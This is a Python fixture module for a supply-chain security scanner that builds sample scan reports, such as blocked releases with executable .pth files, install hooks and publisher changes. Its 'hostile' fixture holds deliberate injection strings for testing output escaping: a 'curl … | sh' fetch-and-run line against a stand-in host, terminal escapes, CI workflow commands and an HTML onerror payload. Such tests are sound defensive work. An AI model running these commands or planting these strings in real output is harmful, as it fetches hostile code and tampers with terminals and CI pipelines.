"""Reports as a scan makes them, one for each screen."""

from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

from doorward.model.findings import (
    Allowance,
    Comparison,
    Coverage,
    Evidence,
    Family,
    Finding,
    Moved,
    Report,
    Severity,
    Strength,
    SubjectVerdict,
    Unanswered,
    Verdict,
)
from doorward.model.pictures import Lane, LaneKind, Mark, MarkKind, ReleaseSizes, SizePoint

NOW = datetime(2026, 6, 1, 12, tzinfo=UTC)
UNTIL = NOW + timedelta(hours=67)
BAD = "pkg:pypi/examplelib@4.1.1"
TOOL = "pkg:npm/tool@1.0.2"
HEADER = (("uv.lock", "80 packages, 9 direct"), ("index", "pypi.corp.example (a mirror)"))
MIRROR = (
    Coverage("known-malware", 80, 80, "advisories of today 09:12"),
    Coverage("what-changed", 80, 80, "against the release before; 3 are first releases, judged alone"),
    Coverage("who-published", 0, 80, "the index removes publisher, provenance and upload time"),
    Coverage("source", 0, 80, "the repositories were not looked at"),
)
FULL = (
    Coverage("known-malware", 80, 80, "advisories of today 09:12"),
    Coverage("what-changed", 80, 80, "against the release before"),
    Coverage("who-published", 80, 80),
    Coverage("source", 80, 80, "tags and commits of 80 repositories"),
)

EXECUTABLE_PTH = Finding(
    rule="registry/executable-pth",
    detection="DS0050",
    subject=BAD,
    family=Family.EXECUTION,
    strength=Strength.CONCLUSIVE,
    severity=Severity.CRITICAL,
    message="The release runs code at interpreter start that the last 12 releases did not.",
    evidence=(
        Evidence(
            "file", "examplelib_init.pth, 34 kB, imports socket", "examplelib_init.pth:1", "no .pth in 4.0.0 ... 4.1.0"
        ),
    ),
    advice="stay on 4.1.0. Machines that installed 4.1.1: isolate, sweep for persistence, then rotate secrets.",
)
NEW_BINARY = Finding(
    rule="registry/new-binary",
    detection="DS0050",
    subject=BAD,
    family=Family.CONTENT,
    strength=Strength.STRONG,
    severity=Severity.HIGH,
    message="The release carries a native library that no earlier release had.",
    evidence=(
        Evidence(
            "library",
            "examplelib/_speed.so, 1.7 MB, ELF x86-64",
            "examplelib/_speed.so",
            "no native code in 4.0.0 ... 4.1.0",
        ),
        Evidence("size", "1.9 MB", baseline="205 to 231 kB in the last 12 releases"),
    ),
    advice="ask the maintainers why the package became native.",
)
SIZE_JUMP = replace(
    NEW_BINARY,
    rule="registry/size-jump",
    family=Family.SIZE,
    strength=Strength.CONTEXT,
    severity=Severity.INFO,
    message="The release is nine times as large as usual.",
    evidence=(Evidence("size", "1.9 MB", baseline="205 to 231 kB in the last 12 releases"),),
    advice="",
)
NEW_HOOK = Finding(
    rule="registry/new-install-hook",
    detection="DS0050",
    subject=TOOL,
    family=Family.EXECUTION,
    strength=Strength.STRONG,
    severity=Severity.HIGH,
    message="The release runs a script at installation, which 1.0.1 did not.",
    evidence=(
        Evidence("script", "postinstall: node setup.js", "package.json", "no install script in the last 12 releases"),
        Evidence("reaches", "network, process", "setup.js:3"),
    ),
    advice="install with scripts off, and read setup.js before anything runs it.",
)
YOUNG = Finding(
    rule="registry/young-release",
    detection="DS0050",
    subject="pkg:pypi/beta@1.2.0",
    family=Family.TIMING,
    strength=Strength.WEAK,
    severity=Severity.LOW,
    message="The release is 5 hours old; the policy lets releases rest for 3 days.",
    evidence=(Evidence("published", "2026-06-01 07:00 UTC", baseline="releases rest for 3 days"),),
    advice="wait until 2026-06-04.",
)
PUBLISHER = Finding(
    rule="registry/publisher-changed",
    detection="DS0050",
    subject=BAD,
    family=Family.PUBLICATION,
    strength=Strength.WEAK,
    severity=Severity.MEDIUM,
    message="Another account published it than every release before.",
    evidence=(Evidence("publisher", "mallory", baseline="alice, in the last 12 releases"),),
)
ALLOWED = replace(
    NEW_BINARY,
    subject="pkg:pypi/gamma@2.0.0",
    allowed=Allowance(
        "registry/new-binary",
        "pkg:pypi/gamma@2.0.0",
        "became native in 2.0.0, announced and reviewed",
        date(2027, 1, 31),
    ),
)


def sizes(subject: str, *bytes_: int, dated: bool = True) -> ReleaseSizes:
    """Releases a month apart, the judged one five hours old."""
    last = len(bytes_) - 1
    return ReleaseSizes(
        subject,
        tuple(
            SizePoint(
                f"4.{at}.0" if at < last else subject.rpartition("@")[2],
                NOW - timedelta(days=30 * (last - at), hours=5) if dated else None,
                size,
            )
            for at, size in enumerate(bytes_)
        ),
        "sdist",
    )


USUAL = (205, 206, 207, 210, 212, 214, 219, 221, 222, 224, 229, 231)
JUMP = sizes(BAD, *(1_000 * size for size in USUAL), 1_900_000)


def lane(kind: LaneKind, name: str, days: range, trusted_from: int | None, *, tags: int = 0) -> Lane:
    """Marks on ``days`` before now, trusted from one of them on; every so many a tag."""
    marks = tuple(
        Mark(
            NOW - timedelta(days=day),
            MarkKind.TAG if tags and at % tags == tags - 1 else MarkKind.COMMIT,
            f"v4.{at}" if tags and at % tags == tags - 1 else f"{day:07x}",
            trusted=trusted_from is not None and day <= trusted_from,
            count=1 + at % 3,
        )
        for at, day in enumerate(days)
    )
    return Lane(kind, name, marks)


LANES = (
    lane(LaneKind.PERSON, "Alice Example", range(360, 40, -9), 400, tags=6),
    lane(LaneKind.PERSON, "Bob Example", range(300, 0, -17), 120),
    lane(LaneKind.PERSON, "Jia Example", range(150, 0, -6), None, tags=8),
    lane(LaneKind.KEY, "4A1E0F3CD2B17788", range(360, 40, -12), 400),
    lane(LaneKind.KEY, "SHA256:9fQmX7b1Z1vJ5pZk2v8mE4n", range(90, 0, -7), None, tags=4),
)


def clean_subjects(count: int, start: int = 0) -> tuple[SubjectVerdict, ...]:
    return tuple(SubjectVerdict(f"pkg:pypi/plain-{n}@1.0", Verdict.CLEAN) for n in range(start, start + count))


def block() -> Report:
    """The design's own example."""
    bad = SubjectVerdict(BAD, Verdict.BLOCK, via=("your-app", "richer-cli 1.2.0"), declared="uv.lock:412")
    return Report(
        Verdict.BLOCK,
        (bad, *clean_subjects(79)),
        (EXECUTABLE_PTH,),
        (),
        MIRROR,
        sizes=(replace(JUMP, points=tuple(replace(point, published=None) for point in JUMP.points)),),
        packages=80,
        evaluated=1234,
        header=HEADER,
        seconds=14.2,
        observed_at=NOW,
        files=("uv.lock",),
    )


def witnesses() -> Report:
    """One package stopped by three findings, with a linked subject that is stopped too."""
    helper = "pkg:pypi/plain-helper@0.0.1"
    found = replace(
        NEW_HOOK,
        subject=helper,
        rule="registry/new-install-hook",
        message="The release builds with code of its own, and is a first release.",
        evidence=(Evidence("build", "setup.py", "setup.py:4"),),
    )
    bad = SubjectVerdict(BAD, Verdict.BLOCK, via=("your-app",), related=(helper,), declared="uv.lock:412")
    linked = SubjectVerdict(helper, Verdict.HOLD, until=UNTIL, linked_only=True)
    return replace(
        block(),
        subjects=(bad, linked, *clean_subjects(79)),
        findings=(SIZE_JUMP, PUBLISHER, EXECUTABLE_PTH, NEW_BINARY, found),
    )


def hold() -> Report:
    held = SubjectVerdict(
        TOOL, Verdict.HOLD, until=UNTIL, via=("your-app", "build-kit 3.1.0"), declared="package-lock.json:88"
    )
    return replace(
        block(),
        verdict=Verdict.HOLD,
        subjects=(held, *clean_subjects(79)),
        findings=(NEW_HOOK,),
        coverage=FULL,
        until=UNTIL,
        header=(("package-lock.json", "80 packages, 9 direct"), ("index", "npm.corp.example")),
        files=("package-lock.json",),
        seconds=3.04,
        sizes=(sizes(TOOL, 48_100, 48_400, 48_300, 51_000, 50_800, 62_900, 51_200, 51_900),),
    )


def warn() -> Report:
    return replace(
        hold(),
        verdict=Verdict.WARN,
        subjects=(replace(hold().subjects[0], verdict=Verdict.WARN, until=None), *clean_subjects(79)),
        until=None,
    )


def clean() -> Report:
    return replace(
        block(),
        verdict=Verdict.CLEAN,
        subjects=(
            SubjectVerdict("pkg:pypi/beta@1.2.0", Verdict.CLEAN, declared="uv.lock:20"),
            SubjectVerdict("pkg:pypi/gamma@2.0.0", Verdict.CLEAN, declared="uv.lock:33"),
            *clean_subjects(78),
        ),
        findings=(YOUNG, ALLOWED, replace(SIZE_JUMP, subject="pkg:pypi/gamma@2.0.0")),
        coverage=FULL,
        notices=("1 package is the project's own (workspace or path) and not judged",),
        sizes=(sizes("pkg:pypi/gamma@2.0.0", 90_000, 91_000, 880_000),),
        seconds=1.26,
    )


def since() -> Report:
    """A change of a lock file that brings four releases, one of them hostile in its name."""
    return replace(
        clean(),
        header=(("uv.lock", "4 packages, 1 direct, changed since origin/main"), HEADER[1]),
        subjects=clean_subjects(4),
        findings=(),
        coverage=tuple(replace(line, answered=4, of=4) for line in FULL),
        notices=(),
        sizes=(),
        packages=4,
        evaluated=4,
        moved=(
            Moved("npm/@scope/tool", "1.0.2", "1.0.2"),
            Moved("pypi/beta", "1.1.0", "1.2.0"),
            Moved("pypi/new|lib\x1b[31m", "", "0.1"),
            Moved("pypi/package-with-quite-a-long-name-indeed", "2026.1.1", "2026.2.0.post1+local.build.7"),
        ),
    )


def many_moved() -> Report:
    return replace(since(), moved=tuple(Moved(f"pypi/lib{at:02}", "1.0", "1.1") for at in range(14)))


def not_evaluated() -> Report:
    ghost, beta = "pkg:pypi/ghost@1.0", "pkg:pypi/beta@1.2.0"
    required = ("registry/executable-pth", "registry/new-binary", "registry/new-install-hook")
    gaps = [Unanswered(rule, ghost, "the index does not have version 1.0", True) for rule in required]
    gaps += [Unanswered(rule, beta, "beta-1.2.0-py3-none-any.whl: the index answered 500", True) for rule in required]
    gaps.append(Unanswered("registry/publisher-changed", ghost, "the index does not have version 1.0", False))
    return Report(
        Verdict.NOT_EVALUATED,
        (SubjectVerdict(ghost, Verdict.NOT_EVALUATED), SubjectVerdict(beta, Verdict.NOT_EVALUATED), *clean_subjects(6)),
        (),
        tuple(gaps),
        (
            Coverage("known-malware", 0, 8, "no feed is imported"),
            Coverage("what-changed", 6, 8, "against the release before; the index answered 500"),
            Coverage("who-published", 7, 8, "the index does not have version 1.0"),
            Coverage("source", 0, 8, "the repositories were not looked at"),
        ),
        incomplete=True,
        packages=8,
        evaluated=60,
        unverifiable=1,
        header=(("requirements.txt", "8 packages"), ("index", "registry.example")),
        seconds=0.44,
        observed_at=NOW,
        files=("requirements.txt",),
    )


def offline() -> Report:
    """Nothing could be had, for many reasons."""
    subjects = [f"pkg:pypi/plain-{n}@1.0" for n in range(30)]
    reasons = ["offline: nothing is stored of it"] * 20 + [f"odd-{n}-1.0.tgz: cause number {n}" for n in range(10)]
    gaps = tuple(
        Unanswered("registry/new-binary", subject, reason, True)
        for subject, reason in zip(subjects, reasons, strict=True)
    )
    gaps += (Unanswered("inventory", "poetry.lock", "the file is not TOML", True),)
    return replace(
        not_evaluated(),
        subjects=tuple(SubjectVerdict(gap.subject, Verdict.NOT_EVALUATED) for gap in gaps),
        gaps=gaps,
        coverage=tuple(Coverage(line.kind, 0, 30, "offline: nothing is stored of it") for line in FULL),
        packages=30,
        header=(
            ("requirements.txt, poetry.lock and 2 more", "30 packages, 4 direct, changed since origin/main"),
            ("index", "registry.example"),
        ),
    )


def mixed() -> Report:
    """Everything at once, the worst last."""
    base, tool = block(), hold()
    warned = replace(NEW_BINARY, subject="pkg:pypi/delta@3.0.0", advice="")
    return replace(
        base,
        subjects=(
            SubjectVerdict("pkg:pypi/gamma@2.0.0", Verdict.CLEAN),
            base.subjects[0],
            SubjectVerdict("pkg:pypi/beta@1.2.0", Verdict.CLEAN),
            tool.subjects[0],
            SubjectVerdict("pkg:pypi/delta@3.0.0", Verdict.WARN, declared="uv.lock:90"),
            SubjectVerdict("pkg:pypi/ghost@1.0", Verdict.NOT_EVALUATED),
            *clean_subjects(74),
        ),
        findings=(YOUNG, NEW_HOOK, ALLOWED, SIZE_JUMP, EXECUTABLE_PTH, NEW_BINARY, warned),
        gaps=(
            *not_evaluated().gaps[:3],
            Unanswered("signing/provenance-lost", "pkg:pypi/beta@1.2.0", "the index answered 503", False),
        ),
        notices=("the allowance of registry/new-binary for pkg:pypi/omega@1.0 expired on 2026-05-01",),
        incomplete=True,
        coverage=(*FULL[:1], Coverage("what-changed", 79, 80, "the index does not have version 1.0"), *MIRROR[2:]),
    )


def hostile() -> Report:
    """Text that tries to act on whoever shows it."""
    evil = "pkg:npm/evil@1.0.0"
    finding = replace(
        NEW_HOOK,
        subject=evil,
        message="\x1b[2J\x1b]0;owned\x07The release \u202eruns\u202c code.\n::error::looks real | @everyone [a](https://a.invalid)",
        evidence=(
            Evidence(
                "script", "curl https://a.invalid/`id` | sh ##[add-mask]x ##vso[task.setvariable]y", "a\u200b/b.js:1"
            ),
            Evidence(
                "\x1b[31mlabel", "::set-output name=x::y\r::stop-commands::z <img src=x onerror=a()> #12 " + "A" * 400
            ),
            Evidence("tags", "\U000e0041\U000e0042\ufeff\u2028\u0085\x9b31m \ud800 {0} {{1}} <!-- --> </details>"),
        ),
        advice="ask @admin\u2066 in GH-7 or at www.a.invalid",
    )
    return replace(
        hold(),
        subjects=(replace(hold().subjects[0], subject=evil, via=("your\x1b[1m-app", "::warning::x")),),
        findings=(finding,),
        gaps=(Unanswered("registry/new-binary", evil, "::error::\x1b[0m the index says <b>no</b>", False),),
        notices=("::notice::\u202enotice",),
        coverage=(Coverage("what-changed", 1, 1, "::debug::\x1b[5mx"), Coverage("source", 0, 1, "a|b")),
        packages=1,
        header=(("package-lock.json\x1b[A", "::group::1 package"), ("index", "ev\u200bil.example")),
    )


def upgrade() -> Report:
    """One upgrade with its table."""
    comparison = Comparison(
        "4.1.0",
        "4.1.1",
        (
            ("size", "231.0 kB", "1.9 MB", "205.0 kB to 231.0 kB in the last 12"),
            ("files", "41", "43", ""),
            ("hooks", "none", "wheel:pth", ""),
            ("dependencies", "3", "3", ""),
            ("published", "2026-03-02 09:12", "2026-06-01 07:00", ""),
            ("publisher", "alice", "mallory", "alice"),
            ("provenance", "yes", "no", ""),
        ),
        (
            205_000,
            206_000,
            207_000,
            210_000,
            212_000,
            214_000,
            219_000,
            221_000,
            222_000,
            224_000,
            229_000,
            231_000,
            1_900_000,
        ),
    )
    return replace(
        block(),
        subjects=(SubjectVerdict(BAD, Verdict.BLOCK, compared_with="4.1.0"),),
        findings=(EXECUTABLE_PTH, NEW_BINARY, PUBLISHER, SIZE_JUMP),
        coverage=tuple(Coverage(line.kind, min(line.answered, 1), 1, line.cause) for line in MIRROR),
        packages=1,
        comparison=comparison,
        header=(("diff", "pkg:pypi/examplelib@4.1.0 .. pkg:pypi/examplelib@4.1.1"),),
        files=(),
        seconds=0.8,
        sizes=(JUMP,),
    )


def repository() -> Report:
    """A repository whose newest person and key nobody trusts yet."""
    commit = "git+https://git.example/lib@" + "2" * 40
    found = replace(
        NEW_HOOK,
        rule="repository/new-integrator",
        detection="DS0021",
        subject=commit,
        family=Family.CONTRIBUTION,
        message="Someone who never did so before puts commits on the default branch.",
        evidence=(Evidence("integrator", "Jia Example <jia@example.invalid>", baseline="Alice Example, Bob Example"),),
        advice="ask the maintainers who this is.",
    )
    return replace(
        hold(),
        subjects=(SubjectVerdict(commit, Verdict.HOLD, until=UNTIL),),
        findings=(found,),
        coverage=(
            Coverage("signatures", 40, 212, "no key is at hand to verify with"),
            Coverage("integrators", 180, 212, "a squash on the forge: git does not tell who pressed the button"),
        ),
        packages=0,
        sizes=(),
        header=(("repository", "git+https://git.example/lib"), ("judged", "200 commits, 12 tags")),
        files=(),
        lanes=LANES,
    )


def first_release() -> Report:
    """A package without history: nothing to compare with, judged alone."""
    return replace(
        upgrade(),
        verdict=Verdict.CLEAN,
        subjects=(SubjectVerdict("pkg:pypi/newborn@0.1", Verdict.CLEAN),),
        findings=(),
        coverage=(
            Coverage("known-malware", 0, 1, "no feed is imported"),
            Coverage("what-changed", 1, 1, "1 is a first release, judged alone"),
            Coverage("who-published", 1, 1),
            Coverage("source", 0, 1, "the repositories were not looked at"),
        ),
        comparison=None,
        sizes=(),
        header=(("purls", "1 package"), ("index", "registry.example")),
    )


def many() -> Report:
    """More findings than anyone reads."""
    young = tuple(replace(YOUNG, subject=f"pkg:pypi/plain-{n}@1.0") for n in range(14))
    lines = tuple(Evidence("line", f"module_{n}.py starts a process", f"module_{n}.py:{n}") for n in range(12))
    big = replace(EXECUTABLE_PTH, evidence=lines, message=EXECUTABLE_PTH.message + " It is long." * 20)
    more = tuple(replace(NEW_BINARY, rule=f"registry/rule-{n}", family=Family.CONTENT) for n in range(5))
    return replace(block(), findings=(*young, big, *more))


REPORTS: dict[str, Callable[[], Report]] = {
    "block": block,
    "witnesses": witnesses,
    "hold": hold,
    "warn": warn,
    "clean": clean,
    "since": since,
    "many-moved": many_moved,
    "not-evaluated": not_evaluated,
    "offline": offline,
    "mixed": mixed,
    "hostile": hostile,
    "upgrade": upgrade,
    "first-release": first_release,
    "many": many,
}
